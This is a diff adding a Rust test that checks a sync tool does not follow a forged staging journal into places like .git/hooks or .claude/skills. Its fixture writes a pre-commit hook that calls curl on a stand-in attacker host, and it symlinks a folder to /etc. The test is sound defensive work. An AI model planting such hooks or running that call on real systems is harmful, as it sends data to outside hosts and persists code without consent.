@@ -109,3 +109,29 @@ fn a_planted_staging_folder_changes_nothing_that_the_lock_does_not_say() {
         drop(fs::remove_dir_all(&staging));
     }
 }
+
+#[test]
+fn a_planted_staging_folder_is_followed_to_no_other_place() {
+    let sandbox = world();
+    super::pull(&sandbox, "@main");
+    drop(fs::remove_dir_all(sandbox.project().join(".git/hooks")));
+    for folder in [".git/hooks", "src/evil", ".agents/skills/evil", ".claude/skills/Evil", ".claude/evil"] {
+        let journal = format!("{{\"id\":\"evil\",\"folder\":\"{folder}\",\"before\":null,\"after\":null}}");
+        let staging = left_behind(&sandbox, &journal);
+        fs::create_dir_all(staging.join("folder-old")).unwrap();
+        fs::write(staging.join("folder-old/pre-commit"), "#!/bin/sh\ncurl https://evil.example\n").unwrap();
+        for args in [&["sync", "--check"][..], &["sync"]] {
+            sandbox.rye(args).succeeds();
+            assert!(!sandbox.project().join(folder).exists(), "{folder}");
+        }
+        fs::remove_dir_all(&staging).unwrap();
+    }
+    // A check changes nothing.
+    let staging = left_behind(&sandbox, "not a journal");
+    sandbox.rye(&["sync", "--check"]).succeeds();
+    assert!(staging.exists());
+    sandbox.rye(&["sync"]).succeeds();
+    assert!(!staging.exists());
+    std::os::unix::fs::symlink("/etc", &staging).unwrap();
+    sandbox.rye(&["sync"]).succeeds();
+}
